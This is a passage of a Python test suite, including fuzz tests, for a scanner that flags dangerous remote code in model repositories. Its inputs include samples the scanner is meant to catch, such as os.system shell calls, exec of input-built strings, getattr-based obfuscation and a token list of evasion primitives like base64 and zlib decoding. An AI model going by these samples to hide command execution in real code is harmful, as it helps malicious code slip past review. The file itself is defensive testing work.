) -> None:
    monkeypatch.setattr("modeltrust.scanners.remote_code.configs.MAX_SOURCE", 1024)
    result = scan_paths([_repo(tmp_path, {"big.py": "x = 1\n" * 400}) / "big.py"])
    (finding,) = result.findings
    assert finding.rule_id == "MT-CODE-004" and finding.severity == Severity.HIGH
    assert "larger than" in finding.message


def test_findings_per_file_are_capped() -> None:
    findings = _analyse("import os\n" + "os.system('id')\n" * 200)
    assert len(findings) == remote_code.MAX_FINDINGS + 1
    assert "150 more" in findings[-1].message and findings[-1].severity == Severity.CRITICAL


def test_long_variable_chains_fold_quickly() -> None:
    lines = ["v0 = 'a'"] + [f"v{i} = v{i - 1} + v{i - 1}[::-1]" for i in range(1, 400)]
    lines.append("getattr(__builtins__, v399)")
    started = time.perf_counter()
    _analyse("\n".join(lines) + "\n")
    assert time.perf_counter() - started < 5


def test_relative_imports_are_followed_but_bounded(tmp_path: Path) -> None:
    files: dict[str, str | bytes | dict[str, object]] = {
        f"m{i}.py": f"from .m{i + 1} import X\nimport os\nos.system('{i}')\n" for i in range(200)
    }
    files["config.json"] = {"auto_map": {"AutoModel": "m0.X"}}
    result = scan_paths([_repo(tmp_path, files) / "config.json"])
    assert len(_code(result, "MT-CODE-001")) == 1
    analysed = {f.location.path for f in _code(result, "MT-CODE-002")}
    assert len(analysed) == remote_code.MAX_LOCAL_FILES


def test_a_variable_is_constant_only_if_every_assignment_agrees() -> None:
    (hit,) = _analyse("mode = 'r'\nif x:\n    mode = 'w'\nopen('out.txt', mode)\n")
    assert hit.severity == Severity.HIGH and "for writing" in hit.message
    (hit,) = _analyse("s = 'x = 1'\ns += input()\nexec(s)\n")
    assert hit.severity == Severity.CRITICAL


def test_python2_file_without_telltales_stays_medium() -> None:
    (hit,) = _analyse("print 'loading'\nmodel.eval()\n# runs on the operating system\n")
    assert hit.rule_id == "MT-CODE-004" and hit.severity == Severity.MEDIUM


@FUZZ
@given(st.text(max_size=400))
def test_random_text_never_raises(text: str) -> None:
    analyse_python(text.encode("utf-8", "surrogatepass"), Location("fuzz.py"))


_TOKENS = [
    "import os",
    "from os import *",
    "exec",
    "eval",
    "(",
    ")",
    "[",
    "]",
    "{",
    "}",
    ".",
    ",",
    ":",
    "=",
    "+",
    "-",
    "*",
    "::-1",
    "'ex'",
    "'ec'",
    "b'\\x00'",
    "lambda x:",
    "def f(a):",
    "class C:",
    "return",
    "global exec",
    "del exec",
    "getattr",
    "__import__",
    "sys.modules",
    "globals()",
    "base64.b64decode",
    "zlib.decompress",
    "chr",
    "map",
    "join",
    "os.system",
    "open",
    "'w'",
    "\n",
    "\n    ",
    "x",
    "y",
    "1",
    "0x10",
    "if",
    "else",
    "for",
    "in",
    "await",
    "yield",
    "with",
    "as",
    ";",
    "@",
    "%",
    "'%s'",
    "f'{x}'",
    "~",
    "not",
    "**",
    "/",
    "...",
]


@FUZZ
@given(st.lists(st.sampled_from(_TOKENS), max_size=80))
def test_python_token_soup_never_raises(tokens: list[str]) -> None:
    analyse_python(" ".join(tokens).encode(), Location("fuzz.py"))


@FUZZ
@given(
    st.recursive(
        st.sampled_from(["x", "'a'", "b'b'", "1", "os", "exec", "base64.b64decode('YQ==')"]),
        lambda inner: st.one_of(
            st.tuples(inner, inner).map(lambda t: f"({t[0]} + {t[1]})"),
            st.tuples(inner, inner).map(lambda t: f"{t[0]}({t[1]})"),
            st.tuples(inner, inner).map(lambda t: f"{t[0]}[{t[1]}]"),
            st.tuples(inner, inner).map(lambda t: f"getattr({t[0]}, {t[1]})"),
            inner.map(lambda t: f"{t}.system"),
            inner.map(lambda t: f"{t}[::-1]"),
            inner.map(lambda t: f"''.join([{t}])"),
        ),
        max_leaves=40,
    )
)
def test_nested_expressions_never_raise(expr: str) -> None:
    source = f"import os, base64\nv = {expr}\nexec(v)\nw = {expr}\n"
    analyse_python(source.encode(), Location("fuzz.py"))


@FUZZ
@given(st.binary(max_size=300))
def test_engine_never_crashes_on_random_configs_and_sources(tmp_path: Path, data: bytes) -> None:
    _repo(tmp_path, {"config.json": b'{"auto_map": ' + data, "m.py": data})
    result = scan_paths([tmp_path])
    assert [f for f in result.findings if f.rule_id == "MT-INT-001"] == []
